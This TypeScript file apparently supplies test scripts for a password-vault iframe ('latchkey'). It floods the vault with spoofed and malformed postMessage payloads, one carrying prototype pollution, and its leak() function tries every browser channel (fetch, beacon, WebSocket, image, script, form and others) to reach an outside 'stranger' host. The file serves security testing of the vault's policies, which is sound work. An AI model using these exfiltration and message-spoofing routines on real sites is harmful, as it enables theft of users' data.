/**
 * Scripts that run inside pages, as text: what a hostile page would say to the vault, and what a hostile script in
 * the vault would do to get something out.
 */

const hello = `{ type: '@latchkey-app/HELLO', version: 1, projectId: 'latchkey-dev' }`

/** Messages of every kind, none of which is a greeting. */
const message = `(at) => [
  { id: 'request-' + at, type: '@latchkey-app/SIGN_OUT', payload: {} },
  { id: 'request-' + at, type: '@latchkey-app/CONNECT_EMAIL', payload: { email: 'eve@example.com' } },
  { id: 'request-' + at, type: '@latchkey-app/GET_USER', payload: {} },
  { ...${hello}, projectId: 'another' },
  { ...${hello}, version: 2 },
  { ...${hello}, more: 1 },
  { type: '@latchkey-frame/READY', version: 1 },
  JSON.parse('{"__proto__":{"polluted":true},"type":"@latchkey-app/HELLO"}'),
  ${hello}.type, null, at, [at], 'x'.repeat(1000), new Map([[at, at]]), new Date(0), 10n,
][at % 16]`

const rest = 'if (at % 500 === 499) await new Promise((resolve) => setTimeout(resolve))'

/** From the right window and origin, but without a port, with two, or with the wrong words. */
export function floodFromHost(count: number, vault: string): string {
  return `(async () => {
    const make = ${message}
    const frame = document.getElementById('vault').contentWindow
    for (let at = 0; at < ${count}; at += 1) {
      const [one, two] = [new MessageChannel(), new MessageChannel()]
      const ports = [[], [one.port2], [one.port2, two.port2]][at % 3]
      const words = at % 3 === 1 ? make(at) : at % 2 ? make(at) : ${hello}
      frame.postMessage(words, '${vault}', ports)
      for (const { port1, port2 } of [one, two]) { port1.close(); if (!ports.includes(port2)) port2.close() }
      ${rest}
    }
  })()`
}

/** A frame beside the vault's, of another origin or of none, that greets as the page would. */
export function addSibling(options: { url: string; sandbox: string; count: number }): string {
  return `new Promise((resolve) => {
    addEventListener('message', ({ data }) => data === 'done' && resolve())
    const frame = document.createElement('iframe')
    frame.sandbox = '${options.sandbox}'
    frame.src = '${options.url}#${options.count}'
    document.body.append(frame)
  })`
}

export const siblingPage = `<!doctype html><script>(async () => {
  const make = ${message}
  const frame = parent.frames[0]
  const count = Number(location.hash.slice(1))
  for (let at = 0; at < count; at += 1) {
    const { port1, port2 } = new MessageChannel()
    frame.postMessage(at % 2 ? make(at) : ${hello}, '*', [port2])
    port1.close()
    ${rest}
  }
  parent.postMessage('done', '*')
})()</script>`

/** Every way to a stranger; gives what is left of those that no policy closes. */
export function leak(stranger: string): string {
  return `(async () => {
    const url = 'http://${stranger}/'
    const quietly = async (work) => { try { await work() } catch {} }
    await quietly(() => fetch(url + 'fetch', { mode: 'no-cors' }))
    await quietly(() => navigator.sendBeacon(url + 'beacon', 'x'))
    await quietly(() => new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onloadend = resolve
      request.open('GET', url + 'xhr')
      request.send()
    }))
    await quietly(() => new Promise((resolve) => {
      const socket = new WebSocket('ws://${stranger}/socket')
      socket.onerror = socket.onopen = resolve
    }))
    await quietly(() => new EventSource(url + 'events').close())
    const add = (tag, fields) => quietly(() => new Promise((resolve) => {
      const element = document.createElement(tag)
      element.onload = element.onerror = resolve
      for (const [name, value] of Object.entries(fields)) element.setAttribute(name, value)
      document.body.append(element)
      setTimeout(resolve, 300)
    }))
    await add('img', { src: url + 'img' })
    await add('script', { src: url + 'script' })
    await add('link', { rel: 'stylesheet', href: url + 'css' })
    await add('link', { rel: 'prefetch', href: url + 'prefetch' })
    await add('link', { rel: 'preload', as: 'image', href: url + 'preload' })
    await add('iframe', { src: url + 'iframe' })
    await add('object', { data: url + 'object' })
    await add('video', { src: url + 'video' })
    await quietly(() => {
      const form = document.createElement('form')
      form.action = url + 'form'
      form.target = '_self'
      document.body.append(form)
      form.submit()
    })
    return [typeof RTCPeerConnection, typeof WebTransport, typeof open]
  })()`
}
